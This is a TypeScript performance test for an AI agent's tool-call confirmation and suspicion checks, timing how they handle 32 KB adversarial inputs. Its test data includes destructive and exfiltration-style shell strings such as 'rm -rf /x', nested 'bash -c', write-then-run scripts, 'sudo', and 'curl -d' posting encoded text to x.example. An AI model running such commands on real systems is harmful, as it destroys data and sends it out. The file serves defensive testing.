/**
 * The processor time that hostile calls of 32 KB take: a call is read on the event loop, and other turns wait for it. The work is bounded in steps
 * (shell-budget.test.ts); here stands what these take. docs/adr/0760.
 */
import { describe, expect, it } from 'vitest';
import { questionOf, repeatedPayment, suspicionOf } from './confirmation.ts';
import { ownWordsOf } from './own-words.ts';

const CHARS = 32 * 1024;
/** Some three times what the slowest takes, for slower machines. */
const MS_MAX = 50;

const filled = (unit: string): string => unit.repeat(Math.ceil(CHARS / unit.length)).slice(0, CHARS);
const numbered = (unit: string): string =>
  Array.from({ length: CHARS / unit.length }, (_, i) => unit.replaceAll('#', String(i))).join('');

/** Processor time in ms, least of five: on a busy machine the clock on the wall measures the others. */
function leastMs(act: () => void): number {
  let least = Number.POSITIVE_INFINITY;
  for (let round = 0; round < 5; round += 1) {
    const from = process.threadCpuUsage();
    act();
    const { user, system } = process.threadCpuUsage(from);
    least = Math.min(least, (user + system) / 1000);
  }
  return least;
}

/** What the questions about one call read of it. */
function ask(tool: string, args: object, user = 'Fix the bug in /home/u/proj'): void {
  const call = { name: tool, argumentsText: JSON.stringify(args) };
  const said = ownWordsOf('', [user]);
  questionOf(call, said, { ask: ['payments', 'access', 'shell', 'deletion', 'recipients'], targets: [] });
  repeatedPayment(call, { made: [] });
  suspicionOf(call, 'why');
}

describe('a hostile command of 32 KB', () => {
  it.each([
    ['separators', filled('rm;')],
    ['lines', filled('ls\n')],
    ['substitutions', filled('$(a) ')],
    ['backticks', filled('`a` ')],
    ['quotes that do not end', filled('"$(')],
    ['brackets that do not end', filled('((')],
    ['braces that do not end', filled('${')],
    ['short quotations', filled('a "b" ')],
    ['a loop of many words', `for x in ${'a '.repeat(CHARS / 4)};do ${'rm $x;'.repeat(CHARS / 12)}done`],
    ['a folder that grows', filled('cd a;rm b;')],
    ['a long variable', `a=${'b'.repeat(100)};${filled('$a ')}`],
    ['shells in shells', filled("bash -c 'rm -rf /x';")],
    ['files that it writes and runs', numbered('echo rm > f#;sh f#;')],
    ['one file that it writes often and runs', `echo ${'x'.repeat(CHARS / 2)}|tee ${'a '.repeat(CHARS / 5)};sh a`],
    ['redirections', filled('>a ')],
    ['starters', filled('sudo a;')],
    ['arithmetic inside of arithmetic', filled('$((')],
    ['scripts', numbered('cat > d#/Makefile <<E\na:\n\trm -rf /x\nE\n')],
    ['clients that are joined by pipes', filled('curl a|')],
    ['hosts', `curl -d x ${filled('a.')}`],
    ['coded text that is sent', `curl -d ${filled('QUJD')} x.example`],
    ['code', numbered('subprocess.run(["rm", "-rf", "/x/#"])\n')],
    ['SQL', `psql -c "${filled('select 1; -- x\n')}"`],
  ])('of %s is read within its bound', (_, command) => {
    expect(leastMs(() => ask('Bash', { command }))).toBeLessThan(MS_MAX);
  });
});

describe('hostile arguments of 32 KB', () => {
  const many = CHARS / 16;
  it.each([
    ['many members', Object.fromEntries(Array.from({ length: many }, (_, i) => [`member_${i}`, `v${i}`]))],
    ['many amounts', { amounts: Array.from({ length: 2 * many }, (_, i) => i) }],
    ['many words as a list', { command: Array.from({ length: 2 * many }, (_, i) => `w${i}`) }],
  ])('of %s are read within their bound', (_, args) => {
    expect(leastMs(() => ask('send_payment', { ...args, iban: 'DE89370400440532013000' }))).toBeLessThan(6 * MS_MAX);
  });

  it('are looked up in a message of 32 KB full of payments within their bound', () => {
    const user = numbered('Pay # EUR to DE893704004405320130#. Do not pay #. ');
    const items = Array.from({ length: 200 }, (_, i) => ({ amount: i * 3.5 }));
    expect(leastMs(() => ask('send_payment', { items }, user))).toBeLessThan(12 * MS_MAX);
  });
});

it('64 calls of one reply are each compared with the ones before without reading those again', () => {
  const args = { iban: 'DE89370400440532013000', note: filled('words of a letter ').slice(0, CHARS / 8) };
  const calls = Array.from({ length: 64 }, (_, i) => ({
    name: 'send_payment',
    argumentsText: JSON.stringify({ ...args, amount: i }),
  }));
  const compare = (n: number) => (): void => {
    const fresh = calls.slice(0, n).map((call) => ({ ...call }));
    fresh.forEach((call, i) => repeatedPayment(call, { made: fresh.slice(0, i) }));
  };
  const few = leastMs(compare(16));
  expect(leastMs(compare(64)) / Math.max(1, few)).toBeLessThan(10); // in proportion 4, by pairs 16
});
